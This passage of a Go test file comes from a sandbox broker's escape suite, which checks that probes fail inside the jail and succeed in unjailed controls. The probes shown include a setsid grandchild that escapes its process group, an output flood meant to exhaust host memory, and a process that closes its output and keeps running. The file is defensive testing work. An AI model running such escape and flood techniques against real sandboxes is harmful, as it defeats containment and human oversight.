	}
	p := e.policy()
	if c.policy != nil {
		c.policy(e, &p)
	}
	timeout := c.timeout
	if timeout == 0 {
		timeout = 20 * time.Second
	}
	var r result
	switch {
	case jailed && bs.f.primed:
		var primed bool
		r, primed = runPrimed(t, b, e, p, timeout, c.script, bs.f.mixed)
		if unprimed = !primed; unprimed {
			// Re-validation retired the priming: something on the host
			// changed what it read (another program's socket, say). The
			// probe ran on a helper confined afresh and its result counts
			// as any other flavour's; how often priming survives is
			// BenchmarkPrimedHandover's to measure.
			t.Logf("%s on this host; a helper confined afresh served the probe", primingRetired)
		}
	case jailed:
		r = runIn(t, b, e, p, timeout, c.script)
	case c.rootOff:
		r = runIn(t, bs.rootOff(), e, p, timeout, c.script)
	case c.widen != nil:
		c.widen(e, &p)
		r = runIn(t, bs.unguarded(), e, p, timeout, c.script) // the git guard off too (escape_git_test.go)
	default:
		r = runUnjailed(t, e, timeout, c.script)
	}
	got := c.escaped(t, e, r)
	if got == jailed {
		t.Logf("jailed=%v stdout=%q stderr=%q settled=%+v\n%s", jailed, r.stdout, r.stderr, r.settled, r.enf)
	}
	return got, unprimed
}

// primingRetired begins what a primed case logs when its command was not
// served by the primed helper.
const primingRetired = "re-validation retired the priming"

// primedTries is how many times a primed flavour's case runs its probe
// while no primed helper served it: another program on the host (a
// socket it bound, say) can make the broker retire a priming.
const primedTries = 3

// runPrimed runs script as runIn does, on a helper primed with p where
// the host allows it: one command under p runs first, the pool's filler
// primes helpers for it (waitPrimed), and the script's command is offered
// one of them with every re-validation on. Another program on a busy host
// (a socket bound, a temporary file made where priming looked) makes the
// broker retire the priming and confine the command afresh, by design: a
// primed helper is never handed a command whose host view changed, so
// the checks cannot be turned off here without handing one a
// configuration it refuses. With mixed, a command under a sibling
// policy (p with one more readable root, as a call granted more has) runs
// on the same workspace first, so the pool primes helpers for both
// policies, and the script's stdin is a file (a pipe at its end, as a
// job's is), handed to the helper over its handoff socket. primed says
// whether a primed helper served the script.
func runPrimed(t *testing.T, b *Broker, e *escapeEnv, p sandbox.Policy, timeout time.Duration, script string, mixed bool) (r result, primed bool) {
	t.Helper()
	b.test.tracePhases = true
	if mixed {
		sibling := p
		sibling.ReadableRoots = append(slices.Clone(p.ReadableRoots), t.TempDir())
		if r := runIn(t, b, e, sibling, timeout, "true"); r.settled.ExitCode != 0 {
			t.Fatalf("sibling policy's command: %+v %s", r.settled, r.stderr)
		}
	}
	if r := runIn(t, b, e, p, timeout, "true"); r.settled.ExitCode != 0 {
		t.Fatalf("priming command: %+v %s", r.settled, r.stderr)
	}
	waitPrimed(t, b)
	spec := sandbox.CallSpec{
		Key: sandbox.StepKey{OpID: "escape", StepID: t.Name()}, Argv: []string{"sh", "-c", script},
		Dir: e.ws, Env: e.vars(), Policy: p, Budget: sandbox.Budget{MaxOutstanding: 1}, Timeout: timeout,
	}
	if mixed {
		pr, pw, err := os.Pipe()
		if err != nil {
			t.Fatal(err)
		}
		pw.Close()
		defer pr.Close()
		spec.Stdin = pr
	}
	ex, d := b.Clear(context.Background(), spec)
	if d != nil {
		t.Fatalf("Clear: %v", d)
	}
	r = collect(ex)
	return r, slices.ContainsFunc(b.phasesOf(ex), func(m jail.PhaseMark) bool { return m.Name == jail.PrimedCommandMark })
}

// primedWaitLimit bounds how long waitPrimed waits for the pool's filler,
// so that a filler that never primes fails the case instead of hanging
// it. It measures nothing: a helper starts and is primed in milliseconds.
const primedWaitLimit = 2 * time.Minute

// waitPrimed waits until b's pool holds a primed helper (primed for the
// last command's policy, whatever other policies it primes for) and its filler has
// stopped, or the filler stopped with the pool full and none primed (the
// host changed what priming read), or primedWaitLimit passed: the case
// then runs on whatever the pool offers.
func waitPrimed(t *testing.T, b *Broker) {
	t.Helper()
	limit := time.Now().Add(primedWaitLimit)
	for {
		b.pool.mu.Lock()
		primed := slices.ContainsFunc(b.pool.ready, func(h *waitingHelper) bool {
			last := b.pool.primes.sources[h.flavour]
			return h.prime != nil && len(last) > 0 && h.prime.key == last[0].key
		})
		ready, filling, err := len(b.pool.ready), b.pool.filling, b.pool.err
		b.pool.mu.Unlock()
		switch {
		case primed && !filling:
			return
		case ready >= b.warmHelpers() && !filling:
			t.Logf("the pool holds %d helpers and none is primed (last start error: %v)", ready, err)
			return
		case time.Now().After(limit):
			t.Logf("no primed helper in the pool after %v (%d ready, filling %v, last start error: %v)", primedWaitLimit, ready, filling, err)
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func runIn(t *testing.T, b *Broker, e *escapeEnv, p sandbox.Policy, timeout time.Duration, script string) result {
	t.Helper()
	ex, d := b.Clear(context.Background(), sandbox.CallSpec{
		Key: sandbox.StepKey{OpID: "escape", StepID: t.Name()}, Argv: []string{"sh", "-c", script},
		Dir: e.ws, Env: e.vars(), Policy: p, Budget: sandbox.Budget{MaxOutstanding: 1}, Timeout: timeout,
	})
	if d != nil {
		t.Fatalf("Clear: %v", d)
	}
	return collect(ex)
}

func collect(ex *sandbox.Execution) result {
	var out, errb bytes.Buffer
	for o := range ex.Output() {
		if o.Stream == sandbox.Stdout {
			out.Write(o.Bytes)
		} else {
			errb.Write(o.Bytes)
		}
	}
	return result{out.String(), errb.String(), ex.Wait(), ex.Enforcement}
}

func runUnjailed(t *testing.T, e *escapeEnv, timeout time.Duration, script string) result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), timeout)
	defer cancel()
	// The script runs in a process group of its own, killed whole at the
	// timeout and once the script ended, so nothing it forked outlives
	// the control (what escapes the group is the case's own to clean up).
	cmd := exec.CommandContext(ctx, "sh", "-c", script)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	defer func() {
		if cmd.Process != nil {
			syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		}
	}()
	cmd.Dir = e.ws
	cmd.Env = os.Environ()
	for k, v := range e.vars() {
		cmd.Env = append(cmd.Env, k+"="+v)
	}
	var out, errb bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	code := 0
	if err != nil {
		code = -1
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		}
	}
	return result{stdout: out.String(), stderr: errb.String(), settled: sandbox.Settled{ExitCode: code}}
}

// markerAlive reports whether a host process whose command line holds
// marker is alive (and kills it when kill is set).
func markerAlive(marker string, kill bool) bool {
	ents, _ := os.ReadDir("/proc")
	alive := false
	for _, ent := range ents {
		b, err := os.ReadFile(filepath.Join("/proc", ent.Name(), "cmdline"))
		if err != nil || !bytes.Contains(b, []byte(marker)) || bytes.Contains(b, []byte("sh\x00-c")) {
			continue
		}
		st, _ := os.ReadFile(filepath.Join("/proc", ent.Name(), "stat"))
		if f := strings.Fields(string(st)); len(f) > 2 && f[2] == "Z" {
			continue
		}
		alive = true
		if kill {
			var pid int
			fmt.Sscan(ent.Name(), &pid)
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
	return alive
}

// setsidTimeoutLimit bounds the timeouts runSetsidGrandchild's jailed
// run tries (doubling from a second) for its grandchild to start before
// the timeout; it measures nothing.
const setsidTimeoutLimit = 64 * time.Second

// runSetsidGrandchild: a grandchild that setsid()s and sleeps must be
// dead once the call timed out. The control runs the same script as a
// plain process group, killed once the grandchild runs, which the
// grandchild escapes. The script says "started" once its grandchild
// runs sleep (setsid execs it in the process $! names: a background job
// of a shell without job control leads no process group), so neither
// run depends on how soon a loaded host starts it.
func runSetsidGrandchild(t *testing.T, b *Broker, e *escapeEnv, jailed bool) bool {
	secs := fmt.Sprintf("%d.%03d", 300+time.Now().UnixNano()%1000, time.Now().UnixNano()%997)
	script := fmt.Sprintf(`setsid sleep %s & `+
		`until tr '\0' ' ' < /proc/$!/cmdline 2>/dev/null | grep -q '^sleep '; do sleep 0.01; done; `+
		`echo started; sleep 300`, secs)
	defer markerAlive("sleep\x00"+secs, true)
	if jailed {
		// A run that timed out before its grandchild started proves
		// nothing: it is tried again with twice the timeout.
		for timeout := time.Second; ; timeout *= 2 {
			r := runIn(t, b, e, e.policy(), timeout, script)
			if !r.settled.TimedOut {
				t.Errorf("settled %+v, want TimedOut", r.settled)
			}
			if strings.Contains(r.stdout, "started") {
				break
			}
			if timeout >= setsidTimeoutLimit {
				t.Fatalf("the grandchild did not start within a timeout of %v: %+v %q", timeout, r.settled, r.stderr)
			}
		}
	} else {
		cmd := exec.Command("sh", "-c", script)
		cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
		out, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		line, _ := bufio.NewReader(out).ReadString('\n')
		syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		cmd.Wait()
		if line != "started\n" {
			t.Fatalf("the control's script said %q, not started", line)
		}
	}
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if markerAlive("sleep\x00"+secs, false) {
			if !jailed {
				return true
			}
			time.Sleep(50 * time.Millisecond)
			continue
		}
		if jailed {
			return false
		}
		time.Sleep(50 * time.Millisecond)
	}
	return markerAlive("sleep\x00"+secs, false)
}

// floodBound is the growth of the host's live heap an output flood may
// cause.
const floodBound = 16 << 20

// floodBytes is how much the output flood writes: four times
// floodBound, so the control's unbounded reader holds more than
// floodBound however fast the host runs the flood.
const floodBytes = 4 * floodBound

// floodTimeout bounds the jailed flood's run; it measures nothing.
const floodTimeout = 2 * time.Minute

// runOutputFlood: a command writing floodBytes as fast as it can, read
// by a consumer that keeps up slowly, must not grow host memory past
// floodBound. The control reads the same flood unbounded (what a naive
// collector does) and grows past it.
func runOutputFlood(t *testing.T, b *Broker, e *escapeEnv, jailed bool) bool {
	flood := []string{"head", "-c", strconv.Itoa(floodBytes), "/dev/zero"}
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	var peak atomic.Uint64
	// Each sample is of the live heap: garbage not yet collected grows
	// with the whole test process's live heap (GOGC), which earlier
	// tests and runs enlarge, not with what the broker holds.
	sample := func() {
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		for {
			p := peak.Load()
			if m.HeapAlloc <= p || peak.CompareAndSwap(p, m.HeapAlloc) {
				return
			}
		}
	}
	var total int
	if jailed {
		ex, d := b.Clear(context.Background(), sandbox.CallSpec{
			Key: sandbox.StepKey{OpID: "escape", StepID: t.Name()}, Argv: flood,
			Dir: e.ws, Env: e.vars(), Policy: e.policy(), Budget: sandbox.Budget{MaxOutstanding: 1}, Timeout: floodTimeout,
			MaxOutputBytes: 1 << 40, // this case is about memory; the output bound has its own (escape_bounds_test.go)
		})
		if d != nil {
			t.Fatal(d)
		}
		n := 0
		for o := range ex.Output() {
			total += len(o.Bytes)
			if n++; n%64 == 0 {
				sample()
				time.Sleep(time.Millisecond)
			}
		}
		if s := ex.Wait(); s.ExitCode != 0 || s.TimedOut {
			t.Errorf("flood settled %+v, want exit 0", s)
		}
	} else {
		var buf bytes.Buffer
		ctx, cancel := context.WithCancel(context.Background())
		cmd := exec.Command(flood[0], flood[1:]...)
		cmd.Stdout = &buf
		sampled := make(chan struct{})
		go func() {
			defer close(sampled)
			for ctx.Err() == nil {
				sample()
				time.Sleep(10 * time.Millisecond)
			}
		}()
		cmd.Run()
		cancel()
		<-sampled
		total = buf.Len()
		sample()
		buf.Reset()
	}
	growth := int64(peak.Load()) - int64(before.HeapAlloc)
	t.Logf("jailed=%v flood total=%d MiB, heap growth=%d KiB", jailed, total>>20, growth>>10)
	if total != floodBytes {
		t.Errorf("the flood delivered %d bytes, not %d", total, floodBytes)
	}
	return growth > floodBound
}

// runClosedStdout: a command that closes its output and keeps running
// must still settle at its timeout. The control shows the same command
// does not end on its own.
func runClosedStdout(t *testing.T, b *Broker, e *escapeEnv, jailed bool) bool {
	script := `exec >&- 2>&-; sleep 300`
	if jailed {
		ex, d := b.Clear(context.Background(), sandbox.CallSpec{
			Key: sandbox.StepKey{OpID: "escape", StepID: t.Name()}, Argv: []string{"sh", "-c", script},
			Dir: e.ws, Env: e.vars(), Policy: e.policy(), Budget: sandbox.Budget{MaxOutstanding: 1}, Timeout: time.Second,
		})
		if d != nil {
			t.Fatal(d)
		}
		for range ex.Output() {
		}
		select {
		case <-ex.Done():
			if s := ex.Wait(); !s.TimedOut {
				t.Errorf("settled %+v, want TimedOut", s)
			}
			return false
		case <-time.After(15 * time.Second):
			return true
		}
	}
	// The shell forks its sleep, so the control runs in a process group
	// of its own and kills the whole group: killing the shell alone left
	// the sleep orphaned for five minutes.
	cmd := exec.Command("sh", "-c", script)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	done := make(chan struct{})
	go func() { cmd.Wait(); close(done) }()
	defer func() { syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL); <-done }()
	select {
	case <-done:
		return false
	case <-time.After(2 * time.Second):
		return true // still running past the timeout the jail enforces
	}
}

func TestEscapeSuite(t *testing.T) {
	own := os.Getenv(escapeFlavourEnv)
	if own == "" {
		t.Parallel()
		exe, err := os.Executable()
		if err != nil {
			t.Fatal(err)
		}
		runEscapeFlavours(t, flavourRuns(escapeFlavours()), func() *exec.Cmd { return exec.Command(exe) }, os.Environ(), testHelper(t))
		return
	}
	i := slices.IndexFunc(escapeFlavours(), func(f escapeFlavour) bool { return f.name == own })
	if i < 0 {
		t.Fatalf("%s=%s names no flavour of the escape suite", escapeFlavourEnv, own)
	}
	f := escapeFlavours()[i]
	t.Setenv(hostSecretName, hostSecretValue)
	cases := escapeCases()
	if len(cases) < 30 {
		t.Fatalf("escape suite has %d cases, want at least 30", len(cases))
	}
	root := os.Geteuid() == 0
	// Each case runs on a helper prestarted for it (warm: the default),
	// on one primed with its policy (primed, primed-mixed), and on one
	// started for the command alone, through a launcher as a large host
	// starts it (cold-launched), each flavour in a process of its own
	// (escapeFlavourEnv). Within one, a case that measures or changes the
	// whole test process (serial) runs alone first, then the others in
	// parallel, each on brokers and in a world of its own; a primed
	// flavour runs every case alone.
	t.Run(f.name, func(t *testing.T) {
		// A host program as the helper (newTestBroker): the test
		// binary is a slow one, under -race especially, and a helper
		// runs no Go code worth race-checking (one goroutine, then
		// exec).
		fb := newTestBroker(t, Options{WarmHelperIdle: f.idle})
		if f.launched {
			fb.test.launchAboveRSS = -1
		}
		t.Logf("%s", fb.Available())
		probe := fb.probed()
		shard := os.Getenv(escapeShardEnv)
		for k, c := range cases {
			if c.rootControl && !root {
				continue // the unprivileged run covers the cases whose control a non-root user can show
			}
			if !inShard(k, shard) {
				continue // another process of this flavour runs it
			}
			t.Run(c.name, func(t *testing.T) {
				// Primed cases run one at a time: a command of another
				// policy running meanwhile (another case's) may taint
				// a priming, and the case would then run unprimed.
				if !c.serial && !f.primed {
					t.Parallel()
				}
				bs := newEscapeBrokers(t, f, probe)
				if f.idle >= 0 && !f.primed {
					warmUp(t, bs.jail)
				}
				escaped, unprimed := runEscape(t, bs, c, true)
				for try := 1; unprimed && !escaped && try < primedTries; try++ {
					// The run on a helper confined afresh counts; the
					// probe runs again, in a new world, for a primed
					// helper to serve it too.
					escaped, unprimed = runEscape(t, bs, c, true)
				}
				if unprimed {
					t.Logf("%s %d times: no primed helper served the probe", primingRetired, primedTries)
				}
				if escaped {
					t.Errorf("ESCAPED: the probe succeeded inside the jail")
				}
				if escaped, _ := runEscape(t, bs, c, false); !escaped {
					t.Errorf("control failed: the probe does not succeed with the layer absent, so the case proves nothing")
				}
			})
		}
	})
}

// escapeFlavour is one way the suite's helpers are started.
type escapeFlavour struct {
	name string
	idle time.Duration // Options.WarmHelperIdle: negative for none
	// helpers is Options.WarmHelpers: zero for the default pool. A case
	// runs one command on a warm helper; the rest of a default pool
	// would be started, and discarded, for nothing.
	helpers  int
	launched bool // through a launcher, as a large host starts them
	// primed: the case's jailed run is offered a helper primed with its
	// own policy (one command under it ran first), as a batch's next
	// command is (see runPrimed).
	primed bool
	// mixed: with primed, the pool is primed for a sibling policy on the
	// same workspace too, and the run's stdin is a file (see runPrimed).
	mixed bool
}

// escapeFlavours are the helper starts the suite runs every case on.
func escapeFlavours() []escapeFlavour {
	// The primed flavour's helpers wait as long as a broker lets them, so
	// no helper is retired idle before a slow host hands it the probe.
	return []escapeFlavour{{name: "warm", helpers: 1}, {name: "primed", idle: maxWarmHelperIdle, primed: true},
		{name: "primed-mixed", idle: maxWarmHelperIdle, primed: true, mixed: true}, {name: "cold-launched", idle: -1, launched: true}}
}

// TestEscapeWarmFlavourIsServedWarm: after warmUp, a case's command on
// a broker of the warm flavour is handed the helper the pool prestarted:
// no helper is spawned for it. The control, with priming left on, shows
// the spawn hook sees the cold start that happens when the pool's
// helpers were primed for the warm-up's policy.
func TestEscapeWarmFlavourIsServedWarm(t *testing.T) {
	t.Parallel()
	f := escapeFlavours()[slices.IndexFunc(escapeFlavours(), func(f escapeFlavour) bool { return f.name == "warm" })]
	probe := newTestBroker(t, Options{}).probed()
	for _, primeOn := range []bool{false, true} {
		t.Run(fmt.Sprint("priming=", primeOn), func(t *testing.T) {
			bs := newEscapeBrokers(t, f, probe)
			b := bs.jail
			if primeOn {
				b.test.noPrime = false
			}
			var cold atomic.Int32
			b.test.onSpawn = func(_ int, warm bool) {
				if !warm {
					cold.Add(1)
				}
			}
			warmUp(t, b)
			if primeOn {
				b.pool.mu.Lock()
				primed := slices.ContainsFunc(b.pool.ready, func(h *waitingHelper) bool { return h.prime != nil })
				b.pool.mu.Unlock()
				if !primed {
					t.Skip("no helper was primed on this host, so the control has nothing to show")
				}
			}
			before := cold.Load()
			e := newEscapeEnv(t)
			if r := runIn(t, b, e, e.policy(), 20*time.Second, "true"); r.settled.ExitCode != 0 {
				t.Fatalf("the case's command: %+v %s", r.settled, r.stderr)
			}
			started := cold.Load() - before
			if !primeOn && started != 0 {
				t.Fatalf("a helper was started cold for the case's command after warmUp: the warm flavour runs its cases cold")
			}
			if primeOn && started == 0 {
				t.Fatalf("control: with priming on, the case's command found a warm helper, so the spawn hook shows nothing")
			}
		})
	}
}

// warmUp runs one command on b under the suite's usual policy and waits
// until b holds the helper it prestarts after it, so the case's jailed
// run (of that namespace flavour) is handed a warm helper, as a host's
// next command is.
func warmUp(t *testing.T, b *Broker) {
	t.Helper()
	e := newEscapeEnv(t)
	if r := runIn(t, b, e, e.policy(), 20*time.Second, "true"); r.settled.ExitCode != 0 {
		t.Fatalf("warm-up command: %+v %s", r.settled, r.stderr)
	}
	waitWarm(t, b)
}
